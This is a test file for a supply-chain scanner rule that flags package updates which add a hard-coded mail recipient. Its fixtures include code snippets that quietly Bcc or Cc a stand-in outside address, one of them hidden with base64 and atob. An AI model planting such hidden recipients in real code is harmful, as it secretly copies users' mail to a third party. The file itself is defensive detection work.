import { recipientAdded } from '../../../src/rules/code/recipient-added.js'
import type { Severity } from '../../../src/rules/rule.js'
import { anAnalysedPackage } from '../../builders/analysed-package.js'
import { type CodeEvidence, codeFacts, codeObservation } from '../../builders/code-finding.js'
import { aDependencyChange } from '../../builders/dependency-change.js'
import { testRule } from '../../rule-tester.js'

const upgrade = aDependencyChange()
const addition = aDependencyChange({ before: null })

const observation = (severity: Severity, ...evidence: readonly CodeEvidence[]) =>
  codeObservation('sends mail to an address that stands in its own code', evidence, { severity })

/** A mail with these lines among its properties, the first in line 3. */
const sending = (...lines: readonly string[]) => ({
  'index.js': ['exports.send = (client, message) =>', '  client.sendMail({', ...lines, '  })'].join('\n'),
})
const plain = sending('    To: message.to,')
const own = { homepage: 'https://docs.pad.example/' }

testRule(recipientAdded, {
  clear: [
    {
      name: 'recipients that the caller gives',
      subject: upgrade,
      facts: await codeFacts(plain, sending('    To: message.to,', '    Bcc: message.bcc,')),
    },
    {
      name: 'a recipient that was there before, in another file',
      subject: upgrade,
      facts: await codeFacts(sending("    to: 'a@other.example',"), {
        ...plain,
        'lib.js': sending("    to: 'a@other.example',")['index.js'],
      }),
    },
    {
      name: 'addresses of authors, in comments and in messages',
      subject: addition,
      facts: {
        package: await anAnalysedPackage(
          {
            'index.js':
              "// bcc: a@other.example\nexports.author = 'A <a@other.example>'\nthrow new Error('Write to a@other.example')",
          },
          { author: 'A <a@other.example>' },
        ),
      },
    },
    {
      name: 'the sender of a mail',
      subject: upgrade,
      facts: await codeFacts(plain, sending("    from: 'pad@other.example',", '    to: message.to,')),
    },
    {
      name: "an address of the package's own domain, as the version before stated it",
      subject: upgrade,
      facts: await codeFacts(plain, sending("    to: 'abuse@pad.example',"), own),
    },
    {
      name: 'tests and examples that nothing loads',
      subject: upgrade,
      facts: await codeFacts(plain, { ...plain, 'test/send.js': sending("    bcc: 'a@other.example',")['index.js'] }),
    },
    { name: 'a package that is removed', subject: aDependencyChange({ after: null }) },
  ],
  flagged: [
    {
      name: 'a blind copy on one added line',
      subject: upgrade,
      facts: await codeFacts(plain, sending('    To: message.to,', "    Bcc: 'a@other.example',")),
      observations: [observation('high', ['recipient', "Bcc: 'a@other.example',", 'index.js', 4, 11])],
    },
    {
      name: 'a copy in a new package',
      subject: addition,
      facts: { package: await anAnalysedPackage(sending("    cc: ['a@other.example'],")) },
      observations: [observation('high', ['recipient', "cc: ['a@other.example'],", 'index.js', 3, 11])],
    },
    {
      name: 'a property that is set afterwards',
      subject: upgrade,
      facts: await codeFacts(plain, {
        'index.js':
          "exports.send = (client, message) => {\n  message.bcc = 'a@other.example'\n  client.sendMail(message)\n}",
      }),
      observations: [observation('high', ['recipient', "message.bcc = 'a@other.example'", 'index.js', 2, 18])],
    },
    {
      name: 'a domain that only the new version calls its own',
      subject: upgrade,
      facts: {
        package: await anAnalysedPackage(sending("    bcc: 'a@pad.example',"), own),
        previousPackage: await anAnalysedPackage(plain),
      },
      observations: [observation('high', ['recipient', "bcc: 'a@pad.example',", 'index.js', 3, 11])],
    },
    {
      name: 'a recipient that is hidden',
      subject: upgrade,
      facts: await codeFacts(plain, sending(`    bcc: atob('${Buffer.from('a@other.example').toString('base64')}'),`)),
      observations: [
        observation('high', [
          'hidden recipient',
          `bcc: atob('${Buffer.from('a@other.example').toString('base64')}'),`,
          'index.js',
          3,
          15,
        ]),
      ],
    },
    {
      name: 'a file that nothing leads to, one step lower',
      subject: upgrade,
      facts: await codeFacts(plain, { ...plain, 'lib.js': sending("    bcc: 'a@other.example',")['index.js'] }),
      observations: [observation('medium', ['recipient', "bcc: 'a@other.example',", 'lib.js', 3, 11])],
    },
  ],
})
